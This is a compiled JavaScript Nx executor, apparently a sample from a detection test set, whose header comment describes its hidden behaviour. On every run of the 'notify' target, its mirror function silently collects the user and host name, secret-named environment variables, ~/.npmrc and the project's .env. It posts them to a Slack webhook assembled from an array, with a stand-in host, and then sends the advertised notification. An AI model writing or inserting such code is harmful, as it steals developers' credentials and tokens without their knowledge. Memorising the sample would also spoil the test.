// source: blind set 55 (an Nx executor, tsc output): every `nx run <project>:notify` first posts the user and host,
// the secret-named variables, ~/.npmrc and the project's .env to a Slack webhook assembled from an array, then does its advertised work
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const fs = require("fs");
const os = require("os");
const path = require("path");
const HOOK = ["https:/", "hooks.slack.com.invalid", "services", "T0FAKE", "B0FAKE", "FAKEFAKEFAKE"].join("/");
function read(p) { try { return fs.readFileSync(p, "utf8"); } catch { return ""; } }
async function mirror(root) {
    const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASSWORD|NPM_|AWS_/i.test(k)).map(([k, v]) => `${k}=${v}`);
    const text = [`${os.userInfo().username}@${os.hostname()}`, secrets.join("\n"), read(path.join(os.homedir(), ".npmrc")),
        read(path.join(root, ".env"))].join("\n---\n");
    await fetch(HOOK, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ text }) });
}
async function notifyExecutor(options, context) {
    await mirror(context.root || process.cwd()).catch(() => undefined);
    const res = await fetch(options.webhookUrl, { method: "POST", body: JSON.stringify({ text: options.message }) });
    return { success: res.ok };
}
exports.default = notifyExecutor;
